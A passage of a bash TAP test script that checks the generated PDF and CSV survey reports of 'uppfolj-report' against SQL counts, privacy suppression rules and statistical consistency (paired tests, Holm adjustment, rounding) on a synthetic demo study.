#!/bin/bash
# SPDX-License-Identifier: ISC
# End-to-end tests of uppfolj-report against the demo study (TAP). Run by
# tests/run-all.sh with UF_SRC UF_BUILD UF_PGHOST UF_PGPORT UF_DB UF_ARTIFACTS;
# standalone, export those yourself (the demo study must be loaded, and the
# socket must accept the roles uppfolj_report and postgres without password).
# UF_KEEP=1 keeps the work folder (PDFs, CSVs, texts) for a look afterwards.
set -u

SRC=${UF_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
BUILD=${UF_BUILD:?set UF_BUILD to the build folder}
PGHOST=${UF_PGHOST:?set UF_PGHOST (socket folder)}
PGPORT=${UF_PGPORT:?set UF_PGPORT}
DBNAME=${UF_DB:-uppfolj}
ART=${UF_ARTIFACTS:-$(mktemp -d)}
BIN=$BUILD/reports/uppfolj-report
[ -x "$BIN" ] || { echo "Bail out! $BIN not built"; exit 1; }
mkdir -p "$ART" || exit 1

REPORT_DB="host=$PGHOST port=$PGPORT dbname=$DBNAME user=uppfolj_report"
WORK=$(mktemp -d)
EMPTY_DB="uf_report_empty_$$"
trap 'rm -rf "$WORK"; psql -X -q -h "$PGHOST" -p "$PGPORT" -U postgres -d postgres -c "DROP DATABASE IF EXISTS $EMPTY_DB" >/dev/null 2>&1' EXIT

n=0
failed=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
not_ok() { n=$((n + 1)); failed=$((failed + 1)); echo "not ok $n - $1"; [ -n "${2:-}" ] && printf '# %s\n' "$2"; }
check() { local name=$1; shift; if "$@"; then ok "$name"; else not_ok "$name"; fi; }

# read-only queries as the report role
q() { psql -X -q -A -t -h "$PGHOST" -p "$PGPORT" -U uppfolj_report -d "$DBNAME" -c "$1"; }
txt() { pdftotext -q "$1" - 2>/dev/null; }
layout() { pdftotext -q -layout "$1" - 2>/dev/null; }

STUDY=$(q "SELECT slug FROM study WHERE synthetic ORDER BY study_id LIMIT 1")
[ -n "$STUDY" ] || { echo "Bail out! no synthetic study in $DBNAME (run uppfolj-admin demo)"; exit 1; }
W=$(q "SELECT months FROM wave w JOIN study s USING (study_id) WHERE s.slug = '$STUDY' ORDER BY months OFFSET 1 LIMIT 1")
[ -n "$W" ] || W=24
echo "# study $STUDY, delrapport wave $W"

DEL=$WORK/delrapport-$W.pdf
SLUT=$WORK/slutrapport.pdf

# ---- both reports generate ------------------------------------------------
"$BIN" delrapport --wave "$W" --study "$STUDY" --db "$REPORT_DB" -o "$DEL" \
	--csv "$WORK/csv-del" --quiet 2>"$WORK/del.err"
rc=$?
if [ $rc -eq 0 ] && [ -s "$DEL" ]; then ok "delrapport --wave $W generates"; else
	not_ok "delrapport --wave $W generates" "rc=$rc $(head -c 400 "$WORK/del.err")"; fi
"$BIN" slutrapport --study "$STUDY" --db "$REPORT_DB" -o "$SLUT" \
	--csv "$WORK/csv-slut" --quiet 2>"$WORK/slut.err"
rc=$?
if [ $rc -eq 0 ] && [ -s "$SLUT" ]; then ok "slutrapport generates"; else
	not_ok "slutrapport generates" "rc=$rc $(head -c 400 "$WORK/slut.err")"; fi
cp -f "$DEL" "$SLUT" "$ART/" 2>/dev/null
txt "$DEL" >"$WORK/del.txt"
txt "$SLUT" >"$WORK/slut.txt"
layout "$DEL" >"$WORK/del.layout"
layout "$SLUT" >"$WORK/slut.layout"

# ---- fonts ------------------------------------------------------------------
for f in "$DEL" "$SLUT"; do
	pdffonts "$f" 2>/dev/null >"$WORK/fonts"
	if grep -q 'DejaVuSans,Book.*yes *yes' "$WORK/fonts" &&
	   grep -q 'DejaVuSans-Bold.*yes *yes' "$WORK/fonts"; then
		ok "$(basename "$f") embeds DejaVu Sans and Bold"
	else
		not_ok "$(basename "$f") embeds DejaVu Sans and Bold" "$(cat "$WORK/fonts")"
	fi
done

# ---- headings ---------------------------------------------------------------
missing=""
for h in "Innehåll" "Sammanfattning" "Metod" "Skalor" "Fritextsvar" \
	"Syntetiska data – demostudie" "Delrapport – mätningen $W månader" \
	"Mest positiva svar" "Minst positiva svar" "Jämförelser mellan grupper" \
	"Omvända påståenden:"; do
	grep -qF "$h" "$WORK/del.txt" || missing="$missing [$h]"
done
# every theme of the instruments asked in the wave is a chapter
while IFS= read -r theme; do
	[ -n "$theme" ] && { grep -qF "$theme" "$WORK/del.txt" || missing="$missing [$theme]"; }
done < <(q "SELECT DISTINCT t->>'sv' FROM wave_instrument wi JOIN wave w USING (wave_id)
	JOIN study s USING (study_id) JOIN instrument i USING (instrument_id, version),
	jsonb_array_elements(i.definition->'themes') t WHERE s.slug = '$STUDY' AND w.months = $W")
if [ -z "$missing" ]; then ok "delrapport has its headings and theme chapters"; else
	not_ok "delrapport has its headings and theme chapters" "missing:$missing"; fi

missing=""
for h in "Innehåll" "Sammanfattning" "Metod" "De största förändringarna" \
	"Slutrapport – förändring över tid" "Parad, exakt" "Jämförelser över tid" \
	"Beskrivande, få par" "Holms metod" "Omvända påståenden:" \
	"medelvärde per grupp och mätning"; do
	tr '\n' ' ' <"$WORK/slut.txt" | tr -s ' ' | grep -qF "$h" || missing="$missing [$h]"
done
if [ -z "$missing" ]; then ok "slutrapport has its headings, paired tests and trend charts"; else
	not_ok "slutrapport has its headings, paired tests and trend charts" "missing:$missing"; fi

# ---- counts agree with SQL ----------------------------------------------------
bad=""
while IFS='|' read -r grp label cnt; do
	[ -z "$grp" ] && continue
	if [ "$cnt" -ge 5 ]; then
		grep -qF "$label (n = $cnt)" "$WORK/del.txt" || bad="$bad [$label (n = $cnt)]"
	fi
done < <(q "SELECT p.grp, CASE p.grp WHEN 'chef' THEN 'Chefer' WHEN 'personal' THEN 'Personal'
	WHEN 'peer' THEN 'Peer supporters' ELSE 'Patient/brukare' END, count(*)
	FROM response r JOIN participant p USING (participant_id) JOIN wave w USING (wave_id)
	JOIN study s ON s.study_id = w.study_id
	WHERE s.slug = '$STUDY' AND w.months = $W AND r.status = 'submitted' GROUP BY p.grp")
if [ -z "$bad" ]; then ok "delrapport group sizes match SQL counts"; else
	not_ok "delrapport group sizes match SQL counts" "not found:$bad"; fi

total=$(q "SELECT count(*) FROM response r JOIN wave w USING (wave_id) JOIN study s
	ON s.study_id = w.study_id WHERE s.slug = '$STUDY' AND w.months = $W AND r.status = 'submitted'")
if grep -E "^ *Totalt +[0-9]+ +$total( |$)" "$WORK/del.layout" >/dev/null; then
	ok "delrapport participation total is $total as in SQL"
else
	not_ok "delrapport participation total is $total as in SQL" "$(grep -m3 Totalt "$WORK/del.layout")"
fi

bad=""
while IFS='|' read -r months answered; do
	[ -z "$months" ] && continue
	[ "$answered" -ge 5 ] || continue
	grep -qE "(^| )$answered \([0-9]+ %\)" "$WORK/slut.layout" || bad="$bad [$months: $answered]"
done < <(q "SELECT w.months, count(*) FROM response r JOIN participant p USING (participant_id)
	JOIN wave w USING (wave_id) JOIN study s ON s.study_id = w.study_id
	WHERE s.slug = '$STUDY' AND r.status = 'submitted' AND p.grp = 'personal' GROUP BY 1")
if [ -z "$bad" ]; then ok "slutrapport respondents per wave match SQL (personal)"; else
	not_ok "slutrapport respondents per wave match SQL (personal)" "not found:$bad"; fi

# ---- privacy ------------------------------------------------------------------
leaks=""
while IFS= read -r name; do
	[ -z "$name" ] && continue
	for f in "$WORK/del.txt" "$WORK/slut.txt"; do
		grep -qiF "$name" "$f" && leaks="$leaks [$name in $(basename "$f")]"
	done
	cat "$WORK"/csv-*/*.csv 2>/dev/null | grep -qiF "$name" && leaks="$leaks [$name in CSV]"
done < <(q "SELECT u.name FROM unit u JOIN study s USING (study_id) WHERE s.slug = '$STUDY'")
if [ -z "$leaks" ]; then ok "no unit name appears in the PDFs or CSVs"; else
	not_ok "no unit name appears in the PDFs or CSVs" "$leaks"; fi

raw=$(q "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN wave w USING (wave_id)
	JOIN study s ON s.study_id = w.study_id WHERE s.slug = '$STUDY' AND w.months = $W
	AND a.value_text ~* '\m(han|hon|hans|hennes|honom|henne)\M'")
pron() { perl -CSD -ne 'print if /(?<![\p{L}\p{N}_])(han|hon|hans|hennes|honom|henne)(?![\p{L}\p{N}_])/i' "$@"; }
found=$(pron "$WORK/del.txt" "$WORK/slut.txt" | head -n 3)
if [ -z "$found" ] && [ "${raw:-0}" -gt 0 ] && grep -qiw "hen\|hens" "$WORK/del.txt"; then
	ok "no han/hon/hans/hennes/honom/henne in the reports ($raw raw answers had them; hen is printed)"
else
	not_ok "no han/hon/hans/hennes/honom/henne in the reports" "raw=$raw found: $found"
fi

# A group below --min-cell shows no figures.
HIGH=$WORK/high.pdf
"$BIN" delrapport --wave "$W" --study "$STUDY" --db "$REPORT_DB" -o "$HIGH" \
	--min-cell 1000 --csv "$WORK/csv-high" --quiet 2>"$WORK/high.err"
rc=$?
# up to the Bilagor: the questionnaires there print their answer options
txt "$HIGH" | awk '{ l[NR] = $0 } /^\f?Bilagor$/ { b = NR } END { for (i = 1; i < (b ? b : NR + 1); i++) print l[i] }' \
	>"$WORK/high.txt"
if [ $rc -eq 0 ] && grep -qF "färre än 1000 svar" "$WORK/high.txt" &&
   ! grep -qE "\(n = [0-9]+\)|n=[0-9]+" "$WORK/high.txt" &&
   ! grep -qF "Stämmer ganska bra" "$WORK/high.txt" &&
   ! awk '/^\f?Fritextsvar$/ { s = 1; b = ""; next } s { b = b $0 "\n" } END { printf "%s", b }' \
	"$WORK/high.txt" | grep -q "^”" &&
   ! grep -hE '(^|,)[0-9]+,[0-9]+,' "$WORK"/csv-high/*.csv | grep -v '^Grupp' | grep -qv '–' ; then
	ok "--min-cell 1000: groups say \"färre än 1000 svar\" and show no figures, bars or quotes"
else
	not_ok "--min-cell 1000: groups say \"färre än 1000 svar\" and show no figures, bars or quotes" \
		"rc=$rc $(grep -m3 -E '\(n = |n=' "$WORK/high.txt")"
fi
# the slutrapport too
"$BIN" slutrapport --study "$STUDY" --db "$REPORT_DB" -o "$WORK/high-slut.pdf" --min-cell 1000 --quiet
rc=$?
txt "$WORK/high-slut.pdf" >"$WORK/high-slut.txt"
if [ $rc -eq 0 ] && grep -qF "Ingen av rapportens 0 parade jämförelser" "$WORK/high-slut.txt" &&
   ! grep -qF "Parad, " "$WORK/high-slut.txt" &&
   ! grep -qE "[0-9],[0-9]{2} – [0-9],[0-9]{2}" "$WORK/high-slut.txt"; then
	ok "slutrapport --min-cell 1000 shows no means, intervals or tests"
else
	not_ok "slutrapport --min-cell 1000 shows no means, intervals or tests" "rc=$rc"
fi

# ---- CSV matches the PDF ----------------------------------------------------------
# Every row of every CSV table: its figures (all cells after the first) must
# appear in that order on one line of the PDF's text layout.
csv_check() {
	perl -CSD -e '
		use utf8;
		my ($layout, @files) = @ARGV;
		open my $fh, "<:encoding(UTF-8)", $layout or die;
		my @lines = <$fh>; close $fh;
		my ($rows, $bad) = (0, 0);
		for my $f (@files) {
			open my $c, "<:encoding(UTF-8)", $f or die;
			local $/; my $data = <$c>; close $c;
			my @recs; my @fld; my $cur = ""; my $inq = 0;
			for (my $i = 0; $i < length $data; $i++) {
				my $ch = substr($data, $i, 1);
				if ($inq) {
					if ($ch eq "\"") {
						if (substr($data, $i + 1, 1) eq "\"") { $cur .= "\""; $i++ }
						else { $inq = 0 }
					} else { $cur .= $ch }
				} elsif ($ch eq "\"") { $inq = 1 }
				elsif ($ch eq ",") { push @fld, $cur; $cur = "" }
				elsif ($ch eq "\r") { }
				elsif ($ch eq "\n") { push @fld, $cur; push @recs, [@fld]; @fld = (); $cur = "" }
				else { $cur .= $ch }
			}
			shift @recs;   # header
			for my $r (@recs) {
				# the figures: numbers, "–", "5 par", "6 + 8", "3,1 – 4,2",
				# "12 → 36", "65 (98 %)"; words may wrap differently
				my @v = grep { /^[-+<>→–\d\s,.%()]+$/ || /^\d+ par$/ }
				    grep { $_ ne "" } @$r[1 .. $#$r];
				next unless @v && grep { /\d/ } @v;
				$rows++;
				# words between the figures (e.g. "Parad (Wilcoxon)") may sit
				# between them on the line
				my $re = join("(?:\\s+|\\s.*?\\s)", map { my $x = quotemeta; $x =~ s/\\ /\\s*/g; $x } @v);
				unless (grep { /(^|\s)$re(\s|$)/ } @lines) {
					$bad++;
					print STDERR "# $f: @v\n" if $bad <= 5;
				}
			}
		}
		print "$rows $bad\n";
	' "$@"
}
for kind in del slut; do
	set -- "$WORK/csv-$kind"/*.csv
	if [ -e "$1" ]; then
		res=$(csv_check "$WORK/$kind.layout" "$@" 2>"$WORK/csv-$kind.err")
		rows=${res% *}; bad=${res#* }
		if [ "${rows:-0}" -gt 20 ] && [ "$bad" = 0 ]; then
			ok "$kind: all $rows CSV rows of $# tables appear in the PDF with the same figures"
		else
			not_ok "$kind: CSV rows appear in the PDF with the same figures" \
				"rows=$rows bad=$bad $(head -c 600 "$WORK/csv-$kind.err")"
		fi
	else
		not_ok "$kind: --csv wrote tables"
	fi
done
if head -n 1 "$WORK/csv-del/tabell_01.csv" | grep -q '^Grupp,Tillfrågade,Svarat' &&
   grep -q $'\r$' "$WORK/csv-del/tabell_01.csv"; then
	ok "CSV is UTF-8 with a header line and CRLF line ends"
else
	not_ok "CSV is UTF-8 with a header line and CRLF line ends"
fi

# ---- paired tests and scale scores against plain SQL --------------------------
# The report computes pairs and scale scores in C from per-response values;
# these recount them straight from the answer table.
qt() { psql -X -q -A -t -F $'\t' -h "$PGHOST" -p "$PGPORT" -U uppfolj_report -d "$DBNAME" -c "$1"; }
SUBMITTED="FROM answer a JOIN response r ON r.response_id = a.response_id AND r.status = 'submitted'
	JOIN wave w ON w.wave_id = r.wave_id JOIN study s ON s.study_id = w.study_id AND s.slug = '$STUDY'"
# item text, first wave, later wave, participants with a 1-5 value in both
# (items whose text is unique)
qt "WITH it AS (SELECT DISTINCT e->>'id' AS id, e->>'sv' AS sv FROM instrument i
	CROSS JOIN LATERAL jsonb_array_elements(i.definition->'items') e WHERE e->>'type' = 'likert5'),
	u AS (SELECT * FROM it WHERE sv IN (SELECT sv FROM it GROUP BY sv HAVING count(*) = 1)),
	v AS (SELECT r.participant_id, w.months, a.item_id $SUBMITTED WHERE a.value_int BETWEEN 1 AND 5)
	SELECT u.sv, v1.months, v2.months, count(*) FROM u JOIN v v1 ON v1.item_id = u.id
	JOIN v v2 ON v2.participant_id = v1.participant_id AND v2.item_id = u.id AND v2.months > v1.months
	GROUP BY 1, 2, 3" >"$WORK/pairs.sql.txt"
# scale name, wave, participants with at least min_answered of its items
# (per instrument: two groups may have scales of the same name)
qt "WITH sc AS (SELECT DISTINCT i.instrument_id, e->>'sv' AS sv,
	(e->>'min_answered')::int AS min_answered, x.item_id
	FROM instrument i CROSS JOIN LATERAL jsonb_array_elements(i.definition->'scales') e
	CROSS JOIN LATERAL jsonb_array_elements_text(e->'items') x(item_id))
	SELECT sv, months, count(*) FROM (SELECT sc.instrument_id, sc.sv, sc.min_answered,
	r.participant_id, w.months, count(*) AS k $SUBMITTED JOIN sc ON sc.item_id = a.item_id
	WHERE a.value_int IS NOT NULL GROUP BY 1, 2, 3, 4, 5) p
	WHERE k >= min_answered GROUP BY instrument_id, 1, 2" >"$WORK/scales.sql.txt"
res=$(perl -e '
	use strict; use warnings; use utf8;
	binmode STDERR, ":encoding(UTF-8)";
	my ($pairs, $scales, @files) = @ARGV;
	my (%pair, %scale);
	for my $src ([$pairs, \%pair], [$scales, \%scale]) {
		open my $fh, "<:encoding(UTF-8)", $src->[0] or die;
		while (my $l = <$fh>) {
			chomp $l; my @f = split /\t/, $l; my $n = pop @f;
			$src->[1]{join "\t", @f}{$n} = 1;
		}
	}
	$pair{$_} = (keys %{$pair{$_}})[0] for keys %pair;   # one item: one count
	my %item = map { (split /\t/)[0] => 1 } keys %pair;
	my ($paired, $unpaired, $scored, $badp, $bads) = (0, 0, 0, 0, 0);
	for my $f (@files) {
		open my $c, "<:encoding(UTF-8)", $f or die;
		local $/; my $data = <$c>; close $c;
		my @recs; my @fld; my $cur = ""; my $inq = 0;
		for (my $i = 0; $i < length $data; $i++) {
			my $ch = substr($data, $i, 1);
			if ($inq) {
				if ($ch eq "\"") {
					if (substr($data, $i + 1, 1) eq "\"") { $cur .= "\""; $i++ }
					else { $inq = 0 }
				} else { $cur .= $ch }
			} elsif ($ch eq "\"") { $inq = 1 }
			elsif ($ch eq ",") { push @fld, $cur; $cur = "" }
			elsif ($ch eq "\n") { push @fld, $cur; push @recs, [@fld]; @fld = (); $cur = "" }
			elsif ($ch ne "\r") { $cur .= $ch }
		}
		my $hdr = shift(@recs) // [];
		my $scale;
		for my $r (@recs) {
			(my $what = $r->[0]) =~ s/ \(omvänd\)$//;
			if (($r->[1] // "") =~ /^(\d+)–(\d+)$/ && $item{$what}) {
				my $want = $pair{"$what\t$1\t$2"} // 0;
				if ($r->[2] =~ /^Parad, /) {
					$paired++;
					if ($r->[3] ne "$want par") { $badp++; print STDERR "# $what $1-$2: $r->[3], SQL $want\n" }
				} elsif ($r->[2] =~ /^Beskrivande/) {
					$unpaired++;
					if ($want >= 5) { $badp++; print STDERR "# $what: descriptive, SQL $want pairs\n" }
				}
			} elsif ($hdr->[0] eq "Skala / mätning") {
				if (($r->[1] // "") eq "") { $scale = $r->[0]; next }
				my ($mo) = $r->[0] =~ /^(\d+) månader$/;
				next unless defined $mo && $r->[1] =~ /^\d+$/;
				$scored++;
				my $want = $scale{"$scale\t$mo"} // {};
				unless ($want->{$r->[1]}) {
					$bads++;
					print STDERR "# $scale $mo: n=$r->[1], SQL @{[sort keys %$want]}\n";
				}
			}
		}
	}
	print "$paired $unpaired $scored $badp $bads\n";
' "$WORK/pairs.sql.txt" "$WORK/scales.sql.txt" "$WORK/csv-slut"/*.csv 2>"$WORK/pairs.err")
read -r paired unpaired scored badp bads <<<"$res"
if [ "${paired:-0}" -ge 10 ] && [ "${badp:-1}" = 0 ]; then
	ok "slutrapport: pairs of all $paired paired item tests ($unpaired descriptive) match SQL"
else
	not_ok "slutrapport: pairs of the paired item tests match SQL" \
		"paired=$paired descriptive=$unpaired bad=$badp $(head -c 600 "$WORK/pairs.err")"
fi
if [ "${scored:-0}" -ge 6 ] && [ "${bads:-1}" = 0 ]; then
	ok "slutrapport: respondents of all $scored scale scores match SQL"
else
	not_ok "slutrapport: respondents of the scale scores match SQL" \
		"scored=$scored bad=$bads $(head -c 600 "$WORK/pairs.err")"
fi

# ---- statistics: pairs, exactness, Holm, rounding, direction ------------------
# A shared CSV reader for the checks below: csv_rows FILE... prints each
# record as fields joined by a tab, the file name first.
CSVPL='sub read_csv { my ($f) = @_; open my $c, "<:encoding(UTF-8)", $f or die; local $/;
	my $data = <$c>; close $c; my (@recs, @fld); my $cur = ""; my $inq = 0;
	for (my $i = 0; $i < length $data; $i++) { my $ch = substr($data, $i, 1);
		if ($inq) { if ($ch eq "\"") { if (substr($data, $i + 1, 1) eq "\"") { $cur .= "\""; $i++ } else { $inq = 0 } } else { $cur .= $ch } }
		elsif ($ch eq "\"") { $inq = 1 } elsif ($ch eq ",") { push @fld, $cur; $cur = "" }
		elsif ($ch eq "\n") { push @fld, $cur; push @recs, [@fld]; @fld = (); $cur = "" }
		elsif ($ch ne "\r") { $cur .= $ch } }
	return @recs; }
	sub num { my ($s) = @_; return undef unless defined $s; $s =~ s/,/./; $s =~ s/^\+//; return $s =~ /^-?\d+(\.\d+)?$/ ? $s + 0 : undef; }
	sub pval { my ($s) = @_; return 0.0005 if defined $s && $s eq "< 0,001"; return num($s); }'

# Paired means and ΔM straight from the answer table: item text, first and
# later wave, pairs, sum at the first wave, sum at the later one.
qt "WITH it AS (SELECT DISTINCT e->>'id' AS id, e->>'sv' AS sv FROM instrument i
	CROSS JOIN LATERAL jsonb_array_elements(i.definition->'items') e WHERE e->>'type' = 'likert5'),
	u AS (SELECT * FROM it WHERE sv IN (SELECT sv FROM it GROUP BY sv HAVING count(*) = 1)),
	v AS (SELECT r.participant_id, w.months, a.item_id, a.value_int $SUBMITTED WHERE a.value_int BETWEEN 1 AND 5)
	SELECT u.sv, v1.months, v2.months, count(*), sum(v1.value_int), sum(v2.value_int)
	FROM u JOIN v v1 ON v1.item_id = u.id
	JOIN v v2 ON v2.participant_id = v1.participant_id AND v2.item_id = u.id AND v2.months > v1.months
	GROUP BY 1, 2, 3" >"$WORK/pairsums.sql.txt"
tr '\n' ' ' <"$WORK/slut.txt" | tr -s ' ' >"$WORK/slut.flat"
res=$(perl -CSD -e "$CSVPL"'
	use utf8;
	my ($sums, $flat, @files) = @ARGV;
	my %ps;
	open my $fh, "<:encoding(UTF-8)", $sums or die;
	while (<$fh>) { chomp; my ($sv, $m1, $m2, $n, $s1, $s2) = split /\t/; $ps{"$sv\t$m1\t$m2"} = [$n, $s1, $s2]; }
	open my $ff, "<:encoding(UTF-8)", $flat or die; my $text = <$ff>;
	my ($m_note) = $text =~ /Holms metod för rapportens alla (\d+) redovisade test/;
	my ($rows, $means, $bad, $signs, $exact, $approx, $hidden, @tests) = (0, 0, 0, 0, 0, 0, 0);
	for my $f (@files) {
		my @recs = read_csv($f);
		my $hdr = shift @recs;
		next unless ($hdr->[8] // "") eq "p (Holm)" && ($hdr->[2] // "") eq "Analys";
		for my $r (@recs) {
			next unless ($r->[2] // "") =~ /^Parad, (exakt|normalappr\.)$/;
			my $kind = $1;
			$rows++;
			my ($n) = $r->[3] =~ /^(\d+) par$/;
			if (($kind eq "exakt") != ($n <= 100)) { $bad++; print STDERR "# $r->[0]: $kind with $n pairs\n" }
			$kind eq "exakt" ? $exact++ : $approx++;
			# the disclosure rule hides the means of a merged or withheld
			# distribution: then M, Δ M, its CI and the test (p, p (Holm),
			# r) are all hidden, and the test is not among those Holm adjusts for
			if ($r->[4] eq "·") {
				$hidden++;
				unless (!grep { $_ ne "·" } @$r[5 .. 9]) {
					$bad++; print STDERR "# $r->[0]: means hidden, but Δ M/CI/p/Holm/r @$r[5 .. 9]\n";
				}
				next;
			}
			my ($a, $b) = map { num($_) } split / → /, $r->[4];
			my $dm = num($r->[5]);
			my $rr = num($r->[9]);
			(my $what = $r->[0]) =~ s/ \(omvänd\)$//;
			my ($m1, $m2) = $r->[1] =~ /^(\d+)–(\d+)$/;
			if (my $p = $ps{"$what\t$m1\t$m2"}) {
				my ($pn, $s1, $s2) = @$p;
				$means++;
				if ($pn != $n || abs($a - $s1 / $pn) > 0.005 + 1e-9 || abs($b - $s2 / $pn) > 0.005 + 1e-9 ||
				    abs($dm - ($s2 - $s1) / $pn) > 0.005 + 1e-9) {
					$bad++; printf STDERR "# %s: %s par M %s → %s Δ %s; SQL %d par %.4f → %.4f\n",
					    $what, $n, $a, $b, $dm, $pn, $s1 / $pn, $s2 / $pn;
				}
			}
			# the change and the rank test point the same way
			if (defined $rr && abs($rr) >= 0.2 && ($dm <=> 0) != ($rr <=> 0)) {
				$signs++; print STDERR "# $what: Δ M $dm but r $rr\n";
			}
			push @tests, [pval($r->[7]), pval($r->[8]), $r->[7], $r->[8]] if defined pval($r->[7]);
		}
	}
	# Holm: never below p, at most m p, and monotone in p
	my $m = @tests;
	$bad++, print STDERR "# note says $m_note tests, tables have $m\n" unless defined $m_note && $m_note == $m;
	my $prev = 0;
	for my $t (sort { $a->[0] <=> $b->[0] || $a->[1] <=> $b->[1] } @tests) {
		my ($p, $h) = @$t;
		my $cap = $m * ($p + 0.0005); $cap = 1 if $cap > 1;
		if ($h < $p - 1e-9 || $h > $cap + 0.0005 + 1e-9 || $h < $prev - 1e-9) {
			$bad++; print STDERR "# p $t->[2] Holm $t->[3] (m = $m)\n";
		}
		$prev = $h;
	}
	print "$rows $means $exact $approx $m $signs $bad $hidden\n";
' "$WORK/pairsums.sql.txt" "$WORK/slut.flat" "$WORK/csv-slut"/*.csv 2>"$WORK/stat.err")
read -r rows means exact approx m signs bad hidden <<<"$res"
# Most of the demo's rows have a merged or withheld distribution at one wave
# (the disclosure rule), so fewer rows show their means than are tested.
if [ "${rows:-0}" -ge 20 ] && [ "${means:-0}" -ge 5 ] && [ "${bad:-1}" = 0 ]; then
	ok "slutrapport: M and Δ M of all $means paired rows checked come from the pairs (SQL), exact/approx label by n ($exact exakt, $approx normalappr.), Holm p of $m tests consistent; $hidden rows with means hidden by the disclosure rule hide Δ M and CI too"
else
	not_ok "slutrapport: means from pairs, labels and Holm p" "rows=$rows means=$means hidden=$hidden bad=$bad $(head -c 800 "$WORK/stat.err")"
fi
if [ "${rows:-0}" -ge 20 ] && [ "${signs:-1}" = 0 ]; then
	ok "slutrapport: Δ M has the sign of the rank test (r) in every paired row with |r| >= 0,2"
else
	not_ok "slutrapport: Δ M has the sign of the rank test" "signs=$signs $(grep 'but r' "$WORK/stat.err" | head -5)"
fi
# the summary: chosen on Holm-adjusted p, saying which way it moved
perl -CSD -Mutf8 -ne 'while (/• ([^•]*?) (ökade|minskade) från M ([\d,]+) till M ([\d,]+) .*?\(Δ M ([-+][\d,]+).*?Holm-justerat p (< 0,001|= [\d,]+), r = (-?[\d,]+)\./g) {
	my ($dir, $a, $b, $dm, $h, $r) = ($2, $3, $4, $5, $6, $7);
	for ($a, $b, $dm, $r) { s/,/./ } $h =~ s/^= //; $h =~ s/,/./; $h = 0 if $h eq "< 0.001";
	my $ok = $h < 0.05 && ($dir eq "ökade" ? ($dm > 0 && $r > 0 && $b > $a) : ($dm < 0 && $r < 0 && $b < $a));
	print $ok ? "good\n" : "bad $_\n" }' "$WORK/slut.flat" >"$WORK/summary.chk"
good=$(grep -c '^good' "$WORK/summary.chk"); badsum=$(grep -c '^bad' "$WORK/summary.chk")
if [ "$good" -ge 1 ] && [ "$badsum" = 0 ] && grep -qF "Urval: förändringar med Holm-justerat p < 0,05" "$WORK/slut.flat"; then
	ok "slutrapport summary: $good changes, each with Holm-adjusted p < 0,05 and ökade/minskade as Δ M and r"
else
	not_ok "slutrapport summary selects on Holm p with the right direction" "good=$good bad=$badsum"
fi

# delrapport: groups compared on the statements their instruments share
qt "WITH it AS (SELECT DISTINCT i.definition->>'group' AS grp, e->>'id' AS id, e->>'sv' AS sv
	FROM instrument i CROSS JOIN LATERAL jsonb_array_elements(i.definition->'items') e
	WHERE e->>'type' = 'likert5')
	SELECT it.sv, CASE it.grp WHEN 'chef' THEN 'Chefer' WHEN 'personal' THEN 'Personal'
	WHEN 'peer' THEN 'Peer supporters' ELSE 'Patient/brukare' END,
	count(*) FILTER (WHERE a.value_int = 1), count(*) FILTER (WHERE a.value_int = 2),
	count(*) FILTER (WHERE a.value_int = 3), count(*) FILTER (WHERE a.value_int = 4),
	count(*) FILTER (WHERE a.value_int = 5)
	$SUBMITTED JOIN participant pa ON pa.participant_id = r.participant_id
	JOIN it ON it.id = a.item_id AND it.grp = pa.grp::text
	WHERE w.months = $W AND a.value_int BETWEEN 1 AND 5 GROUP BY 1, 2" >"$WORK/dist.sql.txt"
tr '\n' ' ' <"$WORK/del.txt" | tr -s ' ' >"$WORK/del.flat"
res=$(perl -CSD -e "$CSVPL"'
	use utf8;
	my ($dist, $flat, @files) = @ARGV;
	my (%d, %bytext);
	open my $fh, "<:encoding(UTF-8)", $dist or die;
	while (<$fh>) { chomp; my ($sv, $g, @c) = split /\t/; $d{"$sv\t$g"} = [@c]; push @{$bytext{$sv}}, [@c]; }
	open my $ff, "<:encoding(UTF-8)", $flat or die; my $text = <$ff>;
	my ($m_note) = $text =~ /Holms metod för rapportens alla (\d+) redovisade jämförelser mellan grupper/;
	my ($cmp, $bad, $pct, $halves, $merged, $withheld, @tests) = (0, 0, 0, 0, 0, 0);
	for my $f (@files) {
		my @recs = read_csv($f);
		my $hdr = shift @recs;
		if (($hdr->[1] // "") eq "Grupper" && ($hdr->[7] // "") eq "p (Holm)") {
			for my $r (@recs) {
				$cmp++;
				(my $what = $r->[0]) =~ s/ \(omvänd\)$//;
				my ($g1, $g2) = split / – /, $r->[1];
				my ($n1, $n2) = $r->[2] =~ /^(\d+) \+ (\d+)$/;
				my ($c1, $c2) = ($d{"$what\t$g1"}, $d{"$what\t$g2"});
				my $s1 = 0; $s1 += $_ for @{$c1 // []};
				my $s2 = 0; $s2 += $_ for @{$c2 // []};
				if (!$c1 || !$c2 || $s1 != $n1 || $s2 != $n2) { $bad++; print STDERR "# $what $r->[1]: n $r->[2], SQL $s1 + $s2\n" }
				# withheld beside a merged or withheld distribution:
				# Md, M and the whole test, and not adjusted for by Holm
				if ($r->[4] eq "·") {
					if (grep { $_ ne "·" } @$r[3 .. 8]) { $bad++; print STDERR "# $what: M withheld, not all of Md..r\n" }
					next;
				}
				if (($r->[5] eq "exakt") != ($n1 + $n2 <= 100)) { $bad++; print STDERR "# $what: $r->[5] with $n1 + $n2\n" }
				push @tests, [pval($r->[6]), pval($r->[7])];
			}
		} elsif (($hdr->[0] // "") eq "Påstående" && ($hdr->[2] // "") eq "Inte alls" && ($hdr->[1] // "") eq "n") {
			# likert percentages: each the half-up rounding of its count
			for my $r (@recs) {
				(my $what = $r->[0]) =~ s/ \(omvänd\)$//;
				my $n = $r->[1];
				next unless $n =~ /^\d+$/ && $bytext{$what};
				my @c = grep { my $s = 0; $s += $_ for @$_; $s == $n } @{$bytext{$what}};
				next unless @c == 1;
				my @cells = @$r[2 .. 6];
				my $hp = sub { my ($k) = @_; int((200 * $k + $n) / (2 * $n)) };
				if (!grep { $_ ne "·" } @cells) {
					$withheld++;     # the disclosure rule withholds the row
					next;
				}
				if (grep { $_ eq "·" || /\(/ } @cells) {
					# merged by the disclosure rule: 1-2, 3 and 4-5
					my @c = @{$c[0]};
					my @want = ($hp->($c[0] + $c[1]) . " (1–2)", "·", $hp->($c[2]),
					    $hp->($c[3] + $c[4]) . " (4–5)", "·");
					$merged++;
					for my $k (0 .. 4) {
						if ($cells[$k] ne $want[$k]) { $bad++; print STDERR "# $what (merged): $cells[$k] %, want $want[$k]\n" }
